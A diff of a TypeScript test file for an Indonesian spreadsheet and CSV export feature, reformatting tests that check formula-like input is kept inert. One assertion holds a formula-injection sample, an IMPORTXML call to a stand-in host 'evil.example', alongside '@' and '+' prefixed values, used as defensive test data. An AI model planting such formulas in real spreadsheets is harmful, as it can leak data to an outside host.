@@ -152,7 +152,12 @@ describe('Ekspor IGA', () => {
   it('stores formula-like text as inert text, exactly as typed', () => {
     const sheet = h.spreadsheet.getSheetByName(EXPORT_TEXT.tab)!;
     const range = sheet.getDataRange();
-    expect(range.getFormulas().flat().every((f) => f === '')).toBe(true);
+    expect(
+      range
+        .getFormulas()
+        .flat()
+        .every((f) => f === ''),
+    ).toBe(true);
     const row = range.getValues()[2]!;
     expect(row.slice(0, 1)).toEqual([HOSTILE.name]);
     expect(row.slice(15, 18)).toEqual([HOSTILE.goal, HOSTILE.benefit, HOSTILE.result]);
@@ -162,7 +167,11 @@ describe('Ekspor IGA', () => {
     const before = values(h, EXPORT_TEXT.tab).length;
     h.runMenu('showIgaExport');
     expect(values(h, EXPORT_TEXT.tab).length).toBe(before);
-    expect(h.ui.dialogs.at(-1)).toMatchObject({ title: EXPORT_TEXT.dialogTitle, file: 'Ekspor', modal: true });
+    expect(h.ui.dialogs.at(-1)).toMatchObject({
+      title: EXPORT_TEXT.dialogTitle,
+      file: 'Ekspor',
+      modal: true,
+    });
     expect(h.ui.toasts.at(-1)?.message).toBe(EXPORT_TEXT.written(3));
   });
 
@@ -185,7 +194,9 @@ describe('Ekspor IGA', () => {
       });
     });
     expect(r.csv).toContain(`"'=IMPORTXML(""http://evil.example"",""//a"")"`);
-    expect(r.csv).toContain(`,'+62 811 0000 (hotline),"Ibu, balita, dan ""lansia""\nterlayani",'@SUM(A1:A9),`);
+    expect(r.csv).toContain(
+      `,'+62 811 0000 (hotline),"Ibu, balita, dan ""lansia""\nterlayani",'@SUM(A1:A9),`,
+    );
   });
 
   it('uses ; and decimal commas for Excel in Indonesian', () => {
